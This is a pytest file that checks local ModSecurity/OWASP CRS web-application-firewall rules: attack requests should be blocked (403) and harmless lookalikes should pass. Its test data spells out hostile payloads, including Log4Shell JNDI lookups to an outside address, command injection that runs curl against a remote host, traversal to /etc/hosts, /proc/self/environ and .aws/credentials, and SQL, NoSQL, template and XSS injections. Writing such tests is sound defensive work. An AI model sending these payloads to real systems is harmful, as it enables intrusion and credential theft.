"""The local rules (rayfleet/crs/local_rules.py) through a real nginx + ModSecurity + OWASP CRS tier
at paranoia 2 with the configured exclusions, in front of a static HAProxy origin. For each attack
class: requests of that class are refused (403) and ordinary requests that look like it pass (200).
The requests are written here, not taken from the corpus the rules were tuned on."""

from __future__ import annotations

import shutil
import tempfile
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path

import httpx
import pytest

from actors.mitigation.node import free_port
from rayfleet.crs import local_rules
from rayfleet.crs.config import CRS_RULES, CrsPaths, CrsPolicy, Upstream
from rayfleet.crs.process import CrsTier
from tests.actors.mitigation.origin import static_origin

EXCLUSIONS = (942130, 942200, 942260, 942400, 942440)  # config/mitigation.yaml
BROWSER = {
    "Host": "shop.example",
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
}


@dataclass(frozen=True)
class Req:
    path: str
    headers: dict[str, str] = field(default_factory=dict)
    body: str | None = None
    content_type: str = "application/x-www-form-urlencoded"


async def start_tier(origin: str, paranoia: int) -> CrsTier:
    paths = CrsPaths(Path(tempfile.mkdtemp(prefix="rf-crs-local-")))
    tier = CrsTier(paths, CrsPolicy(paranoia_level=paranoia, exclusions=EXCLUSIONS), Upstream(origin, free_port()))
    await tier.start()
    return tier


@pytest.fixture(scope="module")
async def tiers() -> AsyncIterator[dict[int, str]]:
    """`{paranoia: address}` of two tiers, PL1 and PL2, over one origin."""
    with static_origin() as origin:
        started = [await start_tier(origin, level) for level in (1, 2)]
        try:
            yield {t.policy.paranoia_level: f"127.0.0.1:{t.upstream.port}" for t in started}
        finally:
            for tier in started:
                await tier.stop()
                shutil.rmtree(tier.paths.root, ignore_errors=True)


async def status(address: str, req: Req) -> int:
    headers = {**BROWSER, **req.headers}
    if req.body is not None:
        headers["Content-Type"] = req.content_type
    async with httpx.AsyncClient(trust_env=False, timeout=10.0) as client:
        method = "POST" if req.body is not None else "GET"
        url = httpx.URL(f"http://{address}{req.path}")
        return (await client.request(method, url, headers=headers, content=req.body)).status_code


def referer(query: str) -> dict[str, str]:
    return {"Referer": "https://shop.example/list?" + query}


CLASSES: dict[str, tuple[list[Req], list[Req]]] = {
    # class: (attacks that must be refused, ordinary requests that must pass)
    "ldap": (
        [Req("/login?user=jdoe)(|(mail=*)"), Req("/", {"Cookie": "f=%28%26%28cn%3D*%29%29"})],
        [Req("/c", body="comment=Bring+two+(2)+boxes+(fragile)+:)"), Req("/s?q=smile+:)(really)")],
    ),
    "nosql": (
        [
            Req("/api/login", body='{"user": "ana", "password": {"$ne": "x"}}', content_type="application/json"),
            Req("/users/%7B%22%24gt%22%3A%22%22%7D"),
            Req("/f", body="q=abc%27%3B+return+db.users.count()%3B+var+y%3D%27"),
        ],
        [
            Req("/api/o", body='{"price": "$12.50", "note": "costs $5 in store"}', content_type="application/json"),
            Req("/c", body="comment=He+said+%27no%27%3B+return+it+tomorrow%2C+let+me+know"),
        ],
    ),
    "template": (
        [
            Req("/hello?name={{+6*7+}}"),
            Req("/", {"Cookie": "tpl=%24%7B7*191%7D"}),
            Req("/", referer("t={%25+include+'x'+%25}")),
        ],
        [Req("/c", body="comment=Use+{braces}+for+sets%2C+5*7+%3D+35%2C+tag+%23{sale}"), Req("/s?q=5*7+tiles")],
    ),
    "log4shell": (
        [
            Req("/", {"X-Api-Version": "${jndi:rmi://198.51.100.9/o}"}),
            Req("/", {"User-Agent": "${${env:NOPE:-j}ndi:ldap://198.51.100.9/a}"}),
        ],
        [Req("/", {"X-Note": "${HOME} stays literal"}), Req("/c", body="comment=Costs+%245+%7Bapprox%7D")],
    ),
    "crlf": (
        [Req("/set?lang=fr%0d%0aX-Forwarded-Host:%20evil.example"), Req("/set?r=%E5%98%8A%E5%98%8DLocation:%20//evil")],
        [Req("/c", body="comment=Hello%2C%0D%0AAddress%3A+12+Rue+de+l%27Eglise%0D%0APhone%3A+0123")],
    ),
    "traversal_in_referer": (
        [Req("/", referer("file=../../../etc/hosts")), Req("/", referer("doc=%2Fproc%2Fself%2Fenviron"))],
        [Req("/", referer("sort=price&page=2")), Req("/", {"Referer": "https://shop.example/blog/2024/06/"})],
    ),
    "stream_wrapper": (
        [Req("/", {"Cookie": "page=php%3A%2F%2Finput"}), Req("/view?tpl=phar://uploads/a.jpg")],
        [Req("/s?q=photos+as+a+zip+file+or+data+file"), Req("/c", body="comment=see+ftp+site+or+http+site")],
    ),
    "dotfile": (
        [Req("/dl?path=/.svn/entries"), Req("/dl", body="f=..%2F.aws%2Fcredentials")],
        [Req("/dl?path=report.env.pdf"), Req("/s?q=.NET+developer")],
    ),
    "command": (
        [
            Req("/download/x%7C%7Ccurl%20-s%20http%3A%2F%2F203.0.113.5%2Fa"),
            Req("/", {"Cookie": "host=8.8.8.8%253Bcat%2520%252Fetc%252Fissue"}),  # encoded twice
            Req("/", referer("h=1.1.1.1;sleep 7")),
        ],
        [
            Req("/c", body="comment=Works+on+Linux+%26+macOS%3B+drivers+not+needed"),
            Req("/c", body="comment=Size+M+%7C+colour+blue+%7C+fits+type+B"),
            Req("/s?q=sleep+well%3B+8+hours"),
        ],
    ),
    "sql_probe": (
        [Req("/items/5'or(exists(select 1))"), Req("/s?sort=name;select @@version"), Req("/", referer("id=1 or 7=7"))],
        [
            Req("/c", body="comment=Tom+O%27Brien+and+Mary+say+hi"),
            Req("/s?q=black+or+white"),
        ],
    ),
    "escaped_xss": (
        [Req("/cb?f=x%5C%22%3Bprompt(document.domain)%3B%2F%2F"), Req("/p?m=%26ltsvg/onload%3Dconfirm(1)%26gt")],
        [Req("/c", body="comment=I+said+%27hi%27%2C+document+attached"), Req("/s?q=%26lt+and+%26gt+in+HTML")],
    ),
    "xml_markup": (
        [Req("/api/x", body='<order><svg onload="go()"/></order>', content_type="application/xml")],
        [
            Req(
                "/api/x",
                body='<?xml version="1.0"?><order><item sku="A-1" qty="2" onsale="yes"/><note>one (1) box</note></order>',
                content_type="application/xml",
            )
        ],
    ),
}


@pytest.mark.parametrize("kind", sorted(CLASSES))
async def test_each_class_is_refused_and_its_ordinary_lookalikes_pass(tiers, kind):
    attacks, ordinary = CLASSES[kind]
    address = tiers[2]
    for req in attacks:
        assert await status(address, req) == 403, req
    for req in ordinary:
        assert await status(address, req) == 200, req


async def test_a_paranoia_2_rule_scores_only_from_paranoia_2(tiers):
    ssti = Req("/hello?name={{+6*7+}}")
    assert await status(tiers[1], ssti) == 200
    assert await status(tiers[2], ssti) == 403
    jndi = Req("/", {"X-Api-Version": "${jndi:rmi://198.51.100.9/o}"})  # Log4Shell is paranoia 1
    assert await status(tiers[1], jndi) == 403


def test_the_rules_file_has_unique_ids_in_the_local_range_and_one_comment_each():
    rules = local_rules.RULES
    ids = [rule.id for rule in rules]
    assert len(ids) == len(set(ids)) and all(100100 <= i < 100200 for i in ids)
    text = local_rules.render(CRS_RULES)
    assert text.count("SecRule ") == len(rules) + sum(1 for rule in rules if rule.chain)
    for rule in rules:
        assert f"id:{rule.id}," in text and rule.why.splitlines()[0] in text
        assert f"tx.anomaly_score_pl{rule.paranoia}=+" in rule.render()
